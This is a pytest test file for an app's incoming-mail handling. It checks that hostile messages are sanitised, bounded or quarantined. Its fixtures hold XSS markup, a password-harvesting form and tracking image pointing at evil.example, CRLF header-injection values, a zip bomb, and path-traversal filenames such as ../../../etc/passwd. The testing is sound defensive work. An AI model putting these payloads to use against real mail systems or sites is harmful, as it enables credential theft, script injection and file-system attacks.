"""Mail that means harm: it is filed or put aside like any other, and does nothing."""

import io
import zipfile
from email.message import EmailMessage

import pytest

from amends.cases.models import Attachment, Case
from amends.letters.models import IncomingMail, MailOutcome
from amends.people.models import Staff, Team
from mail.receiving.ground import arrive, mail, sent

pytestmark = pytest.mark.django_db

TRAP = """
<script>alert(1)</script><style>body{display:none}</style>
<form action="https://evil.example"><input name=password><button>Go</button></form>
<img src="https://evil.example/t.gif?you" onerror="alert(2)" width=1 height=1>
<a href="javascript:alert(3)" onclick="x()">press</a><iframe src="https://evil.example"></iframe>
<div style="background:url(https://evil.example/b.png);position:fixed">Hello <b>there</b></div>
<svg onload=alert(4)><meta http-equiv=refresh content="0;url=https://evil.example">
<link rel=stylesheet href=//evil.example/x.css><object data="x.swf"></object>
"""


def test_html_is_kept_without_what_runs_sends_covers_or_tracks(
    northlight: Team, jim: Staff
) -> None:
    came = arrive(mail("Hello there", html=TRAP))
    assert came.outcome == MailOutcome.NEW
    lower = came.html.lower()
    for harm in ("script", "style", "form", "input", "onerror", "javascript", "iframe", "evil"):
        assert harm not in lower, harm
    assert "<b>there</b>" in came.html
    assert came.blocked_images == 1


def test_a_header_cannot_carry_another_one(birthday: Case, jim: Staff) -> None:
    injected = "=?utf-8?q?Hello=0D=0ABcc:_all@example.org?="
    raw = mail().replace(b"Subject: My TV", f"Subject: {injected}".encode())
    raw = raw.replace(b"From: Amy Chen", b"From: =?utf-8?q?Amy=0D=0AX-Evil:_1?=")
    came = arrive(raw)
    assert came.case is not None
    assert "\n" not in came.case.subject + came.subject + came.from_name
    ours = sent(came.case, jim)
    assert ours["Bcc"] is None
    assert ours["X-Evil"] is None


def test_a_zip_bomb_is_never_unpacked(northlight: Team, jim: Staff) -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * 20_000_000)
    came = arrive(mail(files=(("bomb.zip", bomb.getvalue(), "application/zip"),)))
    assert came.outcome == MailOutcome.NEW
    assert not Attachment.objects.exists()
    assert came.files_left_out == [{"filename": "bomb.zip", "size": len(bomb.getvalue())}]


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/passwd",
        "..\\..\\windows\\system32\\a.txt",
        "/etc/shadow",
        "a\x00b.txt",
        "gpj.\u202etxt",
        "x" * 600 + ".txt",
        ".",
        "",
    ],
)
def test_a_path_in_a_name_leads_nowhere(northlight: Team, jim: Staff, name: str) -> None:
    raw = mail(files=(("SAFE.txt", b"words", "text/plain"),))
    came = arrive(raw.replace(b"SAFE.txt", name.encode("utf-8")))
    assert came.outcome == MailOutcome.NEW
    kept = Attachment.objects.get()
    assert "/" not in kept.filename
    assert "\\" not in kept.filename
    assert ".." not in kept.filename
    assert "\u202e" not in kept.filename
    assert 0 < len(kept.filename) <= 200
    assert kept.file.name.endswith(".txt")
    assert ".." not in kept.file.name


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\n",
        b"\0" * 1000,
        b"\xff\xfe\xfd" * 200,
        b"From: a@b.example\nContent-Type: multipart/mixed; boundary=x\n\n--x\n--x\n--x",
        b"From: \xf0\x9f\x92\xa9 <\xed\xa0\x80@b.example>\nSubject: \xed\xa0\x80\n\n\xed\xa0\x80",
        b"From: x@y.example\nMessage-ID: <" + b"a" * 5000 + b"@x>\n\nwords",
        b"From: x@y.example\nReferences: " + b"<a@b> " * 20000 + b"\n\nwords",
        b"From: " + b"x" * 400 + b"@y.example\nSubject: " + b"s" * 3000 + b"\n\n" + b"w" * 200_000,
        b"From: x@y.example\nDate: Mon, 32 Foo 99999 99:99:99\n\nwords",
    ],
)
def test_nothing_that_comes_is_lost_or_breaks_anything(
    northlight: Team, jim: Staff, raw: bytes
) -> None:
    came = arrive(raw)
    assert came.outcome in (MailOutcome.NEW, MailOutcome.QUARANTINED)
    assert IncomingMail.objects.get().size == len(raw)


def test_many_addresses_and_many_files_stay_bounded(northlight: Team, jim: Staff) -> None:
    message = EmailMessage()
    message["From"], message["Subject"] = "x@y.example", "Many"
    message["To"] = ", ".join(f"a{number}@example.com" for number in range(3_000))
    message.set_content("words")
    for number in range(60):
        message.add_attachment(
            f"{number}".encode(), maintype="text", subtype="plain", filename="n.txt"
        )
    came = arrive(message.as_bytes())
    assert came.outcome == MailOutcome.NEW
    assert Attachment.objects.count() == 50
    assert len(came.files_left_out) == 10


def test_words_longer_than_a_case_can_hold_are_cut_there_and_whole_in_the_mail(
    northlight: Team, jim: Staff
) -> None:
    came = arrive(mail("word " * 30_000))
    assert came.message is not None
    assert len(came.message.body) < 50_000
    assert "kept as it came" in came.message.body
    assert len(came.text) > 100_000
